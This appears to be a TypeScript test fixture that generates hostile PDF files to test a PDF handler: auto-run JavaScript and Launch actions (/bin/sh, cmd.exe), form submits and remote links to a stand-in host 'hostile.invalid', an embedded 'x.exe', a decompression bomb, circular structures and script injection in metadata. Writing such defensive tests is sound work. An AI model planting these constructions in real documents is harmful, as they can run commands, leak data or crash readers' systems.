import { deflateSync } from 'node:zlib';

/** A PDF from its objects (number 1 is the catalogue), with a right cross-reference table. */
function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let at = parts[0]?.length ?? 0;
  for (const [index, body] of objects.entries()) {
    offsets.push(at);
    const object = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(object);
    at += object.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const stream = (content: string | Buffer, dictionary = '') => {
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${dictionary} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
};

const WORDS = stream('BT /F1 12 Tf 40 700 Td (Plain words of a hostile paper.) Tj ET');
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** One page with plain words; the catalogue, the page and further objects can be added to. */
function paper(options: {
  catalogue?: string;
  page?: string;
  more?: readonly (string | Buffer)[];
  box?: string;
}) {
  const { catalogue = '', page = '', more = [], box = '[0 0 600 800]' } = options;
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    WORDS,
    FONT,
    ...more,
  ]);
}

const SCRIPT = '(window.wasRun = true; app.launchURL\\("http://hostile.invalid/p"\\);)';

/** PDFs with actions, script, attachments and traps. */
export function hostilePdfs(): ReadonlyMap<string, Buffer> {
  const bomb = deflateSync(Buffer.alloc(300_000_000, 0x20), { level: 9 });
  return new Map<string, Buffer>([
    ['open-script.pdf', paper({ catalogue: `/OpenAction << /S /JavaScript /JS ${SCRIPT} >>` })],
    ['open-uri.pdf', paper({ catalogue: '/OpenAction << /S /URI /URI (http://hostile.invalid/uri) >>' })],
    ['launch.pdf', paper({ catalogue: '/OpenAction << /S /Launch /F (/bin/sh) >>' })],
    [
      'go-to-remote.pdf',
      paper({ catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\hostile.invalid\\\\share) /D [0 /Fit] >>' }),
    ],
    ['submit.pdf', paper({ catalogue: '/OpenAction << /S /SubmitForm /F (http://hostile.invalid/form) >>' })],
    [
      'import-data.pdf',
      paper({ catalogue: '/OpenAction << /S /ImportData /F (http://hostile.invalid/fdf) >>' }),
    ],
    ['additional-actions.pdf', paper({ page: `/AA << /O << /S /JavaScript /JS ${SCRIPT} >> >>` })],
    [
      'names-script.pdf',
      paper({ catalogue: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${SCRIPT} >>] >> >>` }),
    ],
    [
      'link-script.pdf',
      paper({
        page: '/Annots [6 0 R]',
        more: [`<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /JavaScript /JS ${SCRIPT} >> >>`],
      }),
    ],
    [
      'link-launch.pdf',
      paper({
        page: '/Annots [6 0 R]',
        more: ['<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (cmd.exe) >> >>'],
      }),
    ],
    [
      'attachment.pdf',
      paper({
        catalogue: '/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>',
          stream('MZ not really a program', '/Type /EmbeddedFile'),
        ],
      }),
    ],
    [
      'rich-media.pdf',
      paper({
        page: '/Annots [6 0 R]',
        more: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>'],
      }),
    ],
    [
      'xfa.pdf',
      paper({
        catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >>',
        more: [
          stream(
            '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>window.wasRun=true</script></xdp:xdp>',
          ),
        ],
      }),
    ],
    [
      'external-stream.pdf',
      paper({
        page: '/Annots [6 0 R]',
        more: ['<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>'],
      }),
    ],
    [
      'page-tree-circle.pdf',
      pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
    ],
    [
      'page-tree-deep.pdf',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...Array.from({ length: 3000 }, (_, index) => `<< /Type /Pages /Kids [${index + 3} 0 R] /Count 1 >>`),
        '<< /Type /Page /MediaBox [0 0 9 9] >>',
      ]),
    ],
    [
      'count-lies.pdf',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
      ]),
    ],
    ['giant-page.pdf', paper({ box: '[0 0 1000000000 1000000000]' })],
    [
      'stream-bomb.pdf',
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R >>',
        stream(bomb, '/Filter /FlateDecode'),
      ]),
    ],
    [
      'previous-circle.pdf',
      Buffer.from(
        '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 3 /Root 1 0 R /Prev 56 >>\nstartxref\n56\n%%EOF',
      ),
    ],
    [
      'outline-circle.pdf',
      paper({
        catalogue: '/Outlines 6 0 R',
        more: [
          '<< /First 7 0 R /Last 7 0 R /Count 1 >>',
          '<< /Title (Round and round) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>',
        ],
      }),
    ],
    [
      'script-in-title.pdf',
      pdf(
        [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
          '<< /Title (<script>window.wasRun=true</script>) /Author (<img src=x onerror=window.wasRun=true>) >>',
        ],
        '/Info 4 0 R',
      ),
    ],
  ]);
}
